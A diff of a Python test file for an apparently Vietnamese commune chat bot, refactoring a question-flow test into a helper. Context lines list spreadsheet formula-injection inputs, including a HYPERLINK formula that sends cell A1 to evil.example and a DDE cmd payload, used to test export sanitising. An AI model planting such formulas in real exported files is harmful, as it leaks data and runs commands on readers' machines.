@@ -14,7 +14,7 @@ from handlers.calendar import session_ics
 from handlers.official_docs import Heading, Meeting, minutes, notice
 from handlers.session_report import Row, workbook
 from storage.models import Question
-from tests.support import Chat, add_commune, make_deps, register
+from tests.support import Chat, add_commune, make_deps, register, start_question
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', "+84912345678", "-2+3", "@SUM(A1:A9)",
            "=cmd|' /C calc'!A0", "\t=1+1", "Tên\x0bcó\x00ký tự\x1blạ"]
@@ -62,9 +62,7 @@ async def test_control_characters_and_broken_unicode_in_a_question_are_dropped_n
     await add_commune(db)
     chat = Chat(await make_deps(db), "9001")
     await register(chat)
-    await chat.send("/ask")
-    await chat.press("ask:s:0")
-    await chat.press("ask:t:land")
+    await start_question(chat)
     review = await chat.send("Câu\x00 hỏi\x0b có \ud800ký tự\r\nlạ\rnữa")
     assert "check your question" in review
     assert "TT-0001" in await chat.press("ask:confirm")
